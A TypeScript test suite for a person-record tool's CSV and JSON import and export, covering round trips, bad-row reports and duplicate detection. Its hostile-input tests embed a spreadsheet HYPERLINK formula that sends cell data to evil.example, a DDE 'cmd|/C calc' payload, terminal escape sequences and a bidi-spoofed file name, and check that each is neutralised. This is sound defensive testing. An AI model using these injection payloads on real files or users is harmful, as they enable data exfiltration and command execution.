import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { createApp, type App } from '../src/app.ts';
import { createToken } from '../src/auth/tokens.service.ts';
import { readConfig } from '../src/config.ts';
import { importFile } from '../src/import/import.service.ts';
import { PERSON_CSV_COLUMNS } from '../src/import/person-csv.ts';
import { BIN, vigilInProcess } from './helpers/processes.ts';
import { BACKEND, createProcessStore, personInput } from './helpers/test-app.ts';

type ProcessStore = Awaited<ReturnType<typeof createProcessStore>>;

const HEADER = PERSON_CSV_COLUMNS.join(',');

/** A row of the import CSV from the columns that matter to a test; the others are empty. */
function csvRow(values: Partial<Record<(typeof PERSON_CSV_COLUMNS)[number], string>>): string {
  return PERSON_CSV_COLUMNS.map((column) => {
    const value = values[column] ?? '';
    return /[",\n\r]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
  }).join(',');
}

const goodRow = (n: number) => csvRow({ external_id: `row-${n}`, names: `Latn:en:primary:Person Number${n}`, sex: 'female', birth: '1980', status: 'detained', status_date: '2021-02-19' });

async function withApp<T>(store: ProcessStore, run: (app: App, url: string, token: string) => Promise<T>): Promise<T> {
  const app = await createApp({ ...readConfig({ data: store.dataDir, db: store.dbUrl, port: 0 }, {}), logger: false });
  try {
    const url = await app.start();
    // A coordinator: the source store publishes a person, which researchers may not (issue 7).
    const { token } = await createToken(app.ctx.db, app.ctx.clock, { role: 'coordinator', name: 'import test' });
    return await run(app, url, token);
  } finally {
    await app.stop();
  }
}

/** The persons of a JSON export without what each store gives them itself (ids, case numbers, times, versions). */
function portable(exported: { persons: Array<Record<string, any>> }) {
  return exported.persons.map((person) => {
    const { id: _id, case_id: _case, case_number: _number, created_at: _c, updated_at: _u, version: _v, external_id: _e, current_status, timeline, consent, ...rest } = person;
    const entry = ({ id: _i, person_id: _p, created_at: _ca, version: _ve, citations: _ci, ...kept }: Record<string, any>) => kept;
    return { ...rest, consent: consent && { ...consent, source_id: null }, current_status: current_status && entry(current_status), timeline: timeline.map(entry) };
  });
}

describe(`vigil import and CSV export (${BACKEND})`, () => {
  const stores: ProcessStore[] = [];
  const newStore = async (name: string) => {
    const store = await createProcessStore(`import_${name}`);
    stores.push(store);
    return store;
  };
  const vigil = (args: string[]) => vigilInProcess(args);
  let source: ProcessStore;
  let sourceCsv: string;
  let sourceJson: string;

  before(async () => {
    source = await newStore('source');
    await withApp(source, async (_app, url, token) => {
      const post = async (path: string, body: unknown) => {
        const res = await fetch(`${url}${path}`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' }, body: JSON.stringify(body) });
        assert.equal(res.status, 201, await res.clone().text());
        return (await res.json()) as { id: string };
      };
      const first = await post(
        '/api/v1/persons',
        personInput({
          notes: '=1+1 looks like a formula\nand has a second line, "quoted"',
          occupation: '-teacher',
          hometown: "'=already quoted",
          father_name: '@father',
          residence: '\tTabbed, with a comma',
          national_id: 'SECRET-650101',
          verification: 3,
          consent: { publicity: 'named', location: 'region', given_by: 'her sister', date: '2022' },
          published: true,
        }),
      );
      await post(`/api/v1/persons/${first.id}/statuses`, { status: 'detained', date: '2019-03', place: 'Ghulja' });
      await post(`/api/v1/persons/${first.id}/statuses`, { status: 'camp', date: '2019-06~', place: '+Camp No. 3', whereabouts_acknowledged: 'denied', note: 'seen by a neighbour' });
      await post('/api/v1/persons', {
        names: [
          { text: 'Ilham\u202E Tohti', script: 'Latn', lang: 'en', kind: 'primary' },
          { text: 'ئىلھام\u200B توختى', script: 'Arab', lang: 'ug', kind: 'alias' },
        ],
        sex: 'male',
        birth: '1969-10-25',
        ethnicity: 'uyghur',
        citizenships: ['CN', 'KZ'],
        risk: 'critical',
      });
      await post('/api/v1/persons', personInput({ case_id: first.id, names: [{ text: 'Гүлнұр Жұматай', script: 'Cyrl', lang: 'kk', kind: 'primary' }] }));
    });
    sourceCsv = join(source.dataDir, 'persons.csv');
    sourceJson = join(source.dataDir, 'export.json');
    assert.equal((await vigil(['export', '--format', 'csv', '--out', sourceCsv, ...source.storeArgs])).status, 0);
    assert.equal((await vigil(['export', '--format', 'json', '--out', sourceJson, ...source.storeArgs])).status, 0);
  });

  after(async () => {
    for (const store of stores) await store.drop();
  });

  it('exports CSV safe for spreadsheets: formula-looking cells get one leading quote', () => {
    const text = readFileSync(sourceCsv, 'utf8');
    assert.equal(text.split('\n')[0], HEADER);
    assert.match(text, /"'=1\+1 looks like a formula\nand has a second line, ""quoted"""/);
    assert.match(text, /,'-teacher,/);
    assert.match(text, /,''=already quoted,/);
    assert.match(text, /,'@father,/);
    assert.match(text, /"'\tTabbed, with a comma"/);
    assert.match(text, /,'\+Camp No\. 3$/m);
    assert.match(text, /SECRET-650101/, 'the operator export carries the secret fields, as the JSON one does');
    for (const line of text.split('\n')) assert.doesNotMatch(line, /(^|,)[=+\-@]/, 'no cell starts a formula');
  });

  it('CSV round trip: export → import into an empty store → export gives the same file; a second import changes nothing', async () => {
    const target = await newStore('csv');
    const imported = await vigil(['import', sourceCsv, ...target.storeArgs]);
    assert.equal(imported.status, 0, imported.stderr);
    assert.match(imported.stdout, /imported 3 rows: 3 new, 0 already in the store, 0 bad/);
    // Person 1's names and notes span lines 2–4 (quoted newlines), so person 2 starts on line 5.
    assert.match(imported.stderr, /^line 5: name form 1 has bidi_control characters: kept as given and flagged/m);
    assert.match(imported.stderr, /^line 5: name form 2 has zero_width characters/m);
    const again = join(target.dataDir, 'again.csv');
    assert.equal((await vigil(['export', '--format', 'csv', '--out', again, ...target.storeArgs])).status, 0);
    assert.equal(readFileSync(again, 'utf8'), readFileSync(sourceCsv, 'utf8'));

    const second = await vigil(['import', sourceCsv, ...target.storeArgs]);
    assert.equal(second.status, 0, second.stderr);
    assert.match(second.stdout, /checked 3 rows: 0 new, 3 already in the store, 0 bad; nothing written/);
    // The store's own export, imported back into it, finds its own persons by their ids.
    const own = await vigil(['import', again, ...target.storeArgs]);
    assert.match(own.stdout, /0 new, 3 already in the store/);
    const third = join(target.dataDir, 'third.csv');
    assert.equal((await vigil(['export', '--format', 'csv', '--out', third, ...target.storeArgs])).status, 0);
    assert.equal(readFileSync(third, 'utf8'), readFileSync(sourceCsv, 'utf8'));
  });

  it('JSON round trip: export → import → export gives the same persons with their timelines; re-import changes nothing', async () => {
    const target = await newStore('json');
    const imported = await vigil(['import', sourceJson, '--keep-published', ...target.storeArgs]);
    assert.equal(imported.status, 0, imported.stderr);
    assert.match(imported.stdout, /imported 3 rows: 3 new, 0 already in the store, 0 bad/);
    const before = JSON.parse(readFileSync(sourceJson, 'utf8'));
    const out = join(target.dataDir, 'again.json');
    assert.equal((await vigil(['export', '--out', out, ...target.storeArgs])).status, 0);
    const after = JSON.parse(readFileSync(out, 'utf8'));
    assert.deepEqual(portable(after), portable(before));
    assert.equal(after.persons[0].timeline.length, 2);
    assert.deepEqual(after.persons[1].names[0].flags, ['bidi_control']);
    assert.deepEqual(
      after.persons.map((p: { id: string; external_id: string | null }) => [p.id, p.external_id]),
      before.persons.map((p: { id: string; external_id: string | null }) => [p.id, p.external_id]),
      'each imported person keeps its id and external id (test/import-roundtrip.test.ts covers the other records)',
    );

    const second = await vigil(['import', sourceJson, ...target.storeArgs]);
    assert.match(second.stdout, /0 new, 3 already in the store/);
    const unchanged = join(target.dataDir, 'unchanged.json');
    await vigil(['export', '--out', unchanged, ...target.storeArgs]);
    assert.deepEqual(JSON.parse(readFileSync(unchanged, 'utf8')).persons, after.persons);
  });

  it('JSON: a bad record is reported by its line, and nothing is written', async () => {
    const target = await newStore('json_bad');
    const lines = readFileSync(sourceJson, 'utf8').split('\n');
    assert.equal(lines[1], '"persons":[', 'persons start on line 3, one a line');
    lines[2] = lines[2]!.replaceAll('"status":"camp"', '"status":"camp_x"');
    lines[3] = lines[3]!.replace('"sex":"male"', '"sex":"robot"');
    lines[4] = `{"names": [${lines[4]!.endsWith('],') ? '],' : ','}`;
    const file = join(target.dataDir, 'bad.json');
    writeFileSync(file, lines.join('\n'));
    const result = await vigil(['import', file, ...target.storeArgs]);
    assert.equal(result.status, 1);
    assert.match(result.stderr, /^line 3: unknown timeline\.\d\.status "camp_x"/m);
    assert.match(result.stderr, /^line 4: unknown sex "robot"/m);
    assert.match(result.stderr, /^line 5: not valid JSON$/m);
    assert.match(result.stderr, /vigil: 3 bad rows; nothing written/);
    assert.equal(await countPersons(target), 0);
  });

  it('imported persons are complete records: found by name search by the coordinator given, with history; audited once with counts', async () => {
    const target = await newStore('search');
    const tokens = await withApp(target, async (app) => ({
      member: await createToken(app.ctx.db, app.ctx.clock, { role: 'coordinator', name: 'import coordinator' }),
      other: await createToken(app.ctx.db, app.ctx.clock, { role: 'coordinator', name: 'not a member' }),
    }));
    const email = `token-${tokens.member.userId}@service.invalid`;
    const unknown = await vigil(['import', sourceCsv, '--coordinator', 'nobody@example.org', ...target.storeArgs]);
    assert.match(unknown.stderr, /vigil: --coordinator nobody@example.org names no active user/);
    const imported = await vigil(['import', sourceCsv, '--coordinator', email, ...target.storeArgs]);
    assert.equal(imported.status, 0, imported.stderr);
    await withApp(target, async (app, url) => {
      const get = async (path: string, bearer: string) => {
        const res = await fetch(`${url}${path}`, { headers: { authorization: `Bearer ${bearer}` } });
        assert.equal(res.status, 200, await res.clone().text());
        return (await res.json()) as any;
      };
      // By a form in another script than the one searched: the name keys were written with the persons.
      const hits = await get(`/api/v1/search?q=${encodeURIComponent('Zhanargul Zhumatai')}&in=names`, tokens.member.token);
      assert.ok(hits.items.some((hit: { person: { case_number: string } }) => hit.person.case_number === 'VG-000001'), JSON.stringify(hits));
      const uyghur = await get(`/api/v1/search?q=${encodeURIComponent('Ilham Tohti')}&in=names`, tokens.member.token);
      assert.equal(uyghur.items[0]?.person.case_number, 'VG-000002');
      // Someone who is no member of the imported cases finds nothing.
      assert.equal((await get(`/api/v1/search?q=${encodeURIComponent('Zhanargul')}&in=names`, tokens.other.token)).items.length, 0);
      const history = await get(`/api/v1/persons/${uyghur.items[0].person.id}/history`, tokens.member.token);
      assert.deepEqual(history.items.map((r: { entity: string; action: string; actor: string }) => [r.entity, r.action, r.actor]), [['person', 'create', 'system:cli']]);
      const entries = await app.ctx.db.selectFrom('audit_entries').select(['action', 'detail']).where('action', 'in', ['import.create', 'person.create']).execute();
      const imports = entries.filter((entry) => entry.action === 'import.create').map((entry) => JSON.parse(entry.detail!));
      assert.equal(imports.length, 1, 'a run refused before it read the file is not an import');
      assert.equal(imports[0].imported, 3);
      assert.equal(imports[0].written, true);
      assert.equal(imports[0].coordinator, tokens.member.userId);
      assert.equal(entries.filter((entry) => entry.action === 'person.create').length, 3, 'each person audited as the API audits it');
    });
  });

  it('a dry run checks and reports, and writes nothing', async () => {
    const target = await newStore('dry');
    const file = join(target.dataDir, 'dry.csv');
    writeFileSync(file, [HEADER, goodRow(1), goodRow(2)].join('\n'));
    const dry = await vigil(['import', file, '--dry-run', ...target.storeArgs]);
    assert.equal(dry.status, 0, dry.stderr);
    assert.match(dry.stdout, /checked 2 rows: 2 new, 0 already in the store, 0 bad; nothing written/);
    assert.equal(await countPersons(target), 0);
  });

  it('one bad row among many: reported by line, nothing written; --skip-bad writes the rest', async () => {
    const target = await newStore('bad');
    const file = join(target.dataDir, 'bad.csv');
    const rows = Array.from({ length: 300 }, (_, i) => goodRow(i + 1));
    rows[149] = csvRow({ external_id: 'row-150', names: 'Latn:en:primary:Bad Row', status: 'vanished', status_date: '2021' });
    writeFileSync(file, [HEADER, ...rows].join('\n') + '\n');
    const refused = await vigil(['import', file, ...target.storeArgs]);
    assert.equal(refused.status, 1);
    assert.match(refused.stderr, /^line 151: unknown status "vanished"/m);
    assert.match(refused.stderr, /vigil: 1 bad row; nothing written/);
    assert.equal(await countPersons(target), 0);

    const skipping = await vigil(['import', file, '--skip-bad', ...target.storeArgs]);
    assert.equal(skipping.status, 1, 'a bad row still makes the exit status non-zero');
    assert.match(skipping.stderr, /^line 151: unknown status "vanished"/m);
    assert.match(skipping.stderr, /the good rows were written \(--skip-bad\)/);
    assert.equal(await countPersons(target), 299);
  });

  it('10⁵ rows with one bad one: a clear report and nothing written', async () => {
    const target = await newStore('large');
    const file = join(target.dataDir, 'large.csv');
    const rows = Array.from({ length: 100_000 }, (_, i) => goodRow(i + 1));
    rows[77_776] = csvRow({ external_id: 'row-77777', names: 'Latn:en:primary:Late Bad', birth: 'last spring' });
    writeFileSync(file, [HEADER, ...rows].join('\n') + '\n');
    const refused = await vigil(['import', file, '--duplicates', '0', ...target.storeArgs]);
    assert.equal(refused.status, 1);
    assert.deepEqual(refused.stderr.trim().split('\n'), ['line 77778: birth is not an EDTF date (e.g. 2021, 2021-02-19, 2021-02~, 2021-01/2021-03)', 'vigil: 1 bad row; nothing written']);
    assert.equal(await countPersons(target), 0);
  });

  it('hostile CSV: each case reported by line, or refused as a whole with a clear reason', async () => {
    const target = await newStore('hostile');
    const file = join(target.dataDir, 'hostile.csv');
    const cases: Array<[string, RegExp]> = [
      [csvRow({ external_id: 'h1', names: 'Latn:en:primary:A', sex: 'martian' }), /unknown sex "martian"/],
      [csvRow({ external_id: 'h2', names: 'Latn:en:primary:A', risk: 'extreme' }), /unknown risk "extreme"/],
      [csvRow({ external_id: 'h3', names: 'Latn:en:primary:A', ethnicity: 'Kazakh people' }), /unknown ethnicity "Kazakh people"/],
      [csvRow({ external_id: 'h4', names: 'Xxxx:en:primary:A' }), /unknown names\.0\.script "Xxxx"/],
      [csvRow({ external_id: 'h5', names: 'Latn:en:primary:A', birth: '19.3.1970' }), /birth is not an EDTF date/],
      [csvRow({ external_id: 'h6', names: 'Latn:en:primary:A', status: 'detained', status_date: 'yesterday' }), /status_date is not an EDTF date/],
      [csvRow({ external_id: 'h7', names: 'just a name' }), /names: form 1 is not SCRIPT:LANG:KIND:TEXT/],
      [csvRow({ external_id: '', names: 'Latn:en:primary:A' }), /external_id is empty/],
      [csvRow({ external_id: 'h9', names: 'Latn:en:primary:A', verification: 'high' }), /verification must be integer/],
      [csvRow({ external_id: 'h10', names: 'Latn:en:primary:A', citizenships: 'China' }), /citizenships\.0 contains characters that are not allowed/],
      [csvRow({ external_id: 'h11', names: 'Latn:en:primary:A\u0007bell' }), /names\.0\.text contains characters that are not allowed/],
      [csvRow({ external_id: 'h1', names: 'Latn:en:primary:Again' }), /external_id "h1" is also on line 2/],
      [`${csvRow({ external_id: 'h13', names: 'Latn:en:primary:A' })},extra`, /19 columns where the header has 18/],
      ['h14,VG-1,Latn:en:primary:A', /3 columns where the header has 18/],
    ];
    const good = goodRow(1);
    writeFileSync(file, [HEADER, ...cases.map(([row]) => row), good].join('\r\n'));
    const result = await vigil(['import', file, '--skip-bad', ...target.storeArgs]);
    assert.equal(result.status, 1);
    const lines = result.stderr.trim().split('\n');
    cases.forEach(([, reason], index) => {
      const line = lines.find((text) => text.startsWith(`line ${index + 2}: `));
      assert.ok(line, `line ${index + 2} is reported: ${result.stderr}`);
      assert.match(line, reason);
    });
    assert.match(result.stderr, /vigil: 14 bad rows; the good rows were written/);
    assert.equal(await countPersons(target), 1, 'the one good row, after the bad ones');

    // A byte-order mark is accepted; quoted newlines are kept; unprefixed formula-looking cells are stored as text.
    const bom = join(target.dataDir, 'bom.csv');
    const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
    writeFileSync(bom, `\uFEFF${HEADER}\n${csvRow({ external_id: 'b1', names: 'Latn:en:primary:Line One\nCyrl:ru:alias:Строка Два', notes: `${formula}\nsecond line`, occupation: '@SUM(1+1)*cmd|/C calc!A0' })}\n`);
    const withBom = await vigil(['import', bom, ...target.storeArgs]);
    assert.equal(withBom.status, 0, withBom.stderr);
    const exported = await exportedRows(target);
    const b1 = exported.find((row) => row.external_id === 'b1')!;
    assert.equal(b1.names, 'Latn:en:primary:Line One\nCyrl:ru:alias:Строка Два');
    assert.equal(b1.notes, `'${formula}\nsecond line`);
    assert.equal(b1.occupation, "'@SUM(1+1)*cmd|/C calc!A0");

    // Not UTF-8 (Latin-1 bytes): refused as a whole, nothing written; through the real binary.
    const latin1 = join(target.dataDir, 'latin1.csv');
    writeFileSync(latin1, Buffer.concat([Buffer.from(`${HEADER}\n`), Buffer.from('l1,Latn:fr:primary:Ren\xe9 M\xfcller\n', 'latin1')]));
    const refused = spawnSync(process.execPath, [BIN, 'import', latin1, ...target.storeArgs], { encoding: 'utf8', env: { ...process.env, VIGIL_DB: '', VIGIL_DATA: '' } });
    assert.equal(refused.status, 1);
    assert.match(refused.stderr, /vigil: the file is not UTF-8 text .*save it as UTF-8/);
    assert.equal(await countPersons(target), 2);

    // Broken quoting, an unknown column, a file that is no export: each a clear reason.
    const quotes = join(target.dataDir, 'quotes.csv');
    writeFileSync(quotes, `${HEADER}\n${goodRow(1)}\nq2,,"Latn:en:primary:Open"quote,\n`);
    const broken = await vigil(['import', quotes, ...target.storeArgs]);
    assert.equal(broken.status, 1);
    // The quote after "Open" does not close the cell, so it runs on to the end of the file: refused as a whole.
    assert.match(broken.stderr, /^vigil: line 3: a quoted cell is opened and never closed/m);
    const unknown = join(target.dataDir, 'unknown.csv');
    writeFileSync(unknown, `external_id,names,password\n`);
    assert.match((await vigil(['import', unknown, ...target.storeArgs])).stderr, /vigil: line 1: unknown column "password"/);
    const notExport = join(target.dataDir, 'other.json');
    writeFileSync(notExport, '{"persons": []}\n');
    assert.match((await vigil(['import', notExport, ...target.storeArgs])).stderr, /vigil: line 1: not a Vigil JSON export/);
    assert.equal(await countPersons(target), 2);
  });

  it('broken quoting: reported once a record, in line order, by column and never by value', async () => {
    const target = await newStore('quoting');
    const file = join(target.dataDir, 'secret-quotes.csv');
    const withCell = (id: string, column: 'national_id' | 'notes', cell: string) => csvRow({ external_id: id, names: 'Latn:en:primary:A', [column]: 'CELL' }).replace('CELL', cell);
    const rows = [
      withCell('q1', 'notes', 'ab"SECRET34"cd"ef'), // two stray quotes in one cell: one bad record
      goodRow(1),
      withCell('q2', 'national_id', '"SECRET12 "650101"'),
      goodRow(2),
      // A quoted cell with text after its quote reads on to the next quote: the report says how far.
      withCell('q3', 'notes', '"SECRET56 " more'),
      goodRow(3),
      csvRow({ external_id: 'q4', names: 'Latn:en:primary:A', notes: 'quoted, with a comma' }),
      goodRow(4),
    ];
    writeFileSync(file, [HEADER, ...rows].join('\n') + '\n');
    const result = await vigil(['import', file, '--skip-bad', ...target.storeArgs]);
    assert.equal(result.status, 1);
    assert.doesNotMatch(result.stderr, /SECRET/);
    assert.deepEqual(result.stderr.trim().split('\n'), [
      'line 2: column "notes": a quote inside a cell that does not start with one (quote the whole cell and write a quote inside it as "")',
      'line 4: column "national_id": text after the closing quote of a quoted cell (write a quote inside a quoted cell as "")',
      'line 6: column "notes": text after the closing quote of a quoted cell (write a quote inside a quoted cell as "") (this bad record runs on to line 8)',
      'vigil: 3 bad rows; the good rows were written (--skip-bad)',
    ]);
    assert.equal(await countPersons(target), 3);
  });

  it('an unclosed quote refuses the whole file, naming the line it opens on, even with --skip-bad', async () => {
    const target = await newStore('unclosed');
    const small = join(target.dataDir, 'unclosed.csv');
    const open = csvRow({ external_id: 'u1', names: 'Latn:en:primary:A', notes: 'CELL' }).replace('CELL', '"never closed');
    writeFileSync(small, [HEADER, goodRow(1), open, goodRow(2), goodRow(3)].join('\n') + '\n');
    const refused = await vigil(['import', small, '--skip-bad', ...target.storeArgs]);
    assert.equal(refused.status, 1);
    assert.match(refused.stderr, /^vigil: line 3: a quoted cell is opened and never closed/m);
    assert.doesNotMatch(refused.stderr, /never closed"|SECRET/);
    // Larger than a record may be (1 MiB): the 20,000 rows after it are not one cell.
    const large = join(target.dataDir, 'unclosed-large.csv');
    writeFileSync(large, [HEADER, goodRow(1), open, ...Array.from({ length: 20_000 }, (_, i) => goodRow(i + 2))].join('\n') + '\n');
    const larger = await vigil(['import', large, '--skip-bad', '--duplicates', '0', ...target.storeArgs]);
    assert.equal(larger.status, 1);
    assert.match(larger.stderr, /^vigil: line 3: a record longer than 1048576 bytes \(most likely a quote that is never closed\); nothing is imported$/m);
    assert.equal(await countPersons(target), 0);
    // A JSON line is bounded too.
    const json = join(target.dataDir, 'long.json');
    writeFileSync(json, `{"format":"vigil-export","version":1,"exported_at":"2026"\n"persons":[\n{"names":"${'a'.repeat(1_100_000)}"}\n]}\n`);
    const long = await vigil(['import', json, '--skip-bad', ...target.storeArgs]);
    assert.match(long.stderr, /^vigil: line 3: a line longer than 1048576 characters; nothing is imported/m);
    assert.equal(await countPersons(target), 0);
  });

  it('line numbers stay right after CRLFs inside quoted cells, in an LF file and in a BOM + CRLF one', async () => {
    const target = await newStore('crlf');
    const quoted = (id: string) => csvRow({ external_id: id, names: 'Latn:en:primary:A', notes: 'one\r\ntwo\r\nthree' });
    const stray = csvRow({ external_id: 'c-stray', names: 'Latn:en:primary:A', notes: 'CELL' }).replace('CELL', 'x"y');
    const bad = (id: string) => csvRow({ external_id: id, names: 'Latn:en:primary:A', sex: 'martian' });
    // Lines: 1 header; 2–4 quoted; 5 bad; 6 stray quote; 7–9 quoted; 10 bad.
    const rows = [HEADER, quoted('c1'), bad('c2'), stray, quoted('c3'), bad('c4')];
    for (const [name, text] of [
      ['lf.csv', rows.join('\n') + '\n'],
      ['bom-crlf.csv', `\uFEFF${rows.join('\r\n')}\r\n`],
    ] as const) {
      const file = join(target.dataDir, name);
      writeFileSync(file, text);
      const result = await vigil(['import', file, '--dry-run', ...target.storeArgs]);
      assert.deepEqual(
        result.stderr.trim().split('\n').map((line) => line.split(':')[0]),
        ['line 5', 'line 6', 'line 10', 'vigil'],
        `${name}: ${result.stderr}`,
      );
    }
  });

  it('values echoed in messages are escaped: no terminal escape or bidi control reaches standard error raw', async () => {
    const target = await newStore('escapes');
    const file = join(target.dataDir, 'escapes.csv');
    writeFileSync(
      file,
      [
        HEADER,
        csvRow({ external_id: 'e\u202Egnp.exe', names: 'Latn:en:primary:A' }),
        csvRow({ external_id: 'e\u202Egnp.exe', names: 'Latn:en:primary:A' }),
        csvRow({ external_id: 'e3', names: 'Latn:en:primary:A', sex: '\u001b[2J\u001b[31mmartian\u0085' }),
        csvRow({ external_id: 'e4', names: 'Latn:en:primary:A', ethnicity: `\u001b]0;${'x'.repeat(200)}\u0007` }),
      ].join('\n'),
    );
    const result = await vigil(['import', file, '--dry-run', ...target.storeArgs]);
    assert.doesNotMatch(result.stderr, /[\u001b\u0007\u0085\u202E]/);
    assert.match(result.stderr, /^line 3: external_id "e\\u202egnp\.exe" is also on line 2$/m);
    assert.match(result.stderr, /^line 4: unknown sex "\\u001b\[2J\\u001b\[31mmartian\\u0085" \(one of/m);
    assert.match(result.stderr, /^line 5: unknown ethnicity "\\u001b\]0;x{56}…" \(a code/m);
  });

  it('a write stopped midway: the audit says what was committed, and the same command again writes the rest', async () => {
    const target = await newStore('partial');
    const file = join(target.dataDir, 'partial.csv');
    writeFileSync(file, [HEADER, ...Array.from({ length: 5 }, (_, i) => goodRow(i + 1))].join('\n') + '\n');
    await withApp(target, async (app) => {
      let batches = 0;
      // The second batch's transaction fails as a database error would (disk full, connection lost).
      const failing = {
        ...app.ctx,
        audit: {
          ...app.ctx.audit,
          appendAllIn: async (...args: Parameters<typeof app.ctx.audit.appendAllIn>) => {
            batches += 1;
            if (batches === 2) throw new Error('the database went away');
            return app.ctx.audit.appendAllIn(...args);
          },
        },
      };
      await assert.rejects(importFile(failing, file, { dryRun: false, skipBad: false, duplicateRows: 0, batchSize: 2 }, { note: () => {} }), /the database went away/);
      const entries = await app.ctx.db.selectFrom('audit_entries').select(['detail']).where('action', '=', 'import.create').execute();
      const detail = JSON.parse(entries.at(-1)!.detail!);
      assert.equal(detail.complete, false);
      assert.equal(detail.committed, 2);
      assert.equal(detail.written, true);
    });
    assert.equal(await countPersons(target), 2);
    const again = await vigil(['import', file, ...target.storeArgs]);
    assert.equal(again.status, 0, again.stderr);
    assert.match(again.stdout, /imported 5 rows: 3 new, 2 already in the store, 0 bad/);
    assert.equal(await countPersons(target), 5);
  });

  it('reports likely duplicates already in the store, per row, without refusing them', async () => {
    const target = await newStore('dupes');
    assert.equal((await vigil(['import', sourceCsv, ...target.storeArgs])).status, 0);
    const file = join(target.dataDir, 'dupes.csv');
    writeFileSync(file, [HEADER, csvRow({ external_id: 'd1', names: 'Latn:en:primary:Zhanargul Zhumatai', sex: 'female', birth: '1970', ethnicity: 'kazakh' }), goodRow(2)].join('\n'));
    const result = await vigil(['import', file, ...target.storeArgs]);
    assert.equal(result.status, 0, result.stderr);
    assert.match(result.stderr, /^line 2: possible duplicate of VG-000001 \(score 0\.\d\d\)$/m);
    assert.doesNotMatch(result.stderr, /^line 3:/m);
    assert.match(result.stdout, /imported 2 rows: 2 new/);

    // Bounded: only the first ROWS new rows are checked, and the report says so.
    const more = join(target.dataDir, 'more.csv');
    const dupe = (id: string) => csvRow({ external_id: id, names: 'Cyrl:kk:primary:Жанаргүл Жұматай', sex: 'female', birth: '1970~' });
    writeFileSync(more, [HEADER, dupe('m1'), dupe('m2')].join('\n'));
    const bounded = await vigil(['import', more, '--dry-run', '--duplicates', '1', ...target.storeArgs]);
    assert.match(bounded.stderr, /^line 2: possible duplicate of VG-000001/m);
    assert.doesNotMatch(bounded.stderr, /^line 3: possible duplicate/m);
    assert.match(bounded.stderr, /likely duplicates were looked for in the first 1 new rows only/);
  });
});

function readCsvExport(text: string): Array<Record<string, string>> {
  return parse(text, { columns: true }) as Array<Record<string, string>>;
}

async function exportedRows(store: ProcessStore): Promise<Array<Record<string, string>>> {
  const file = join(store.dataDir, `count-${Date.now()}.csv`);
  const exported = await vigilInProcess(['export', '--format', 'csv', '--out', file, ...store.storeArgs]);
  assert.equal(exported.status, 0, exported.stderr);
  return readCsvExport(readFileSync(file, 'utf8'));
}

async function countPersons(store: ProcessStore): Promise<number> {
  return (await exportedRows(store)).length;
}
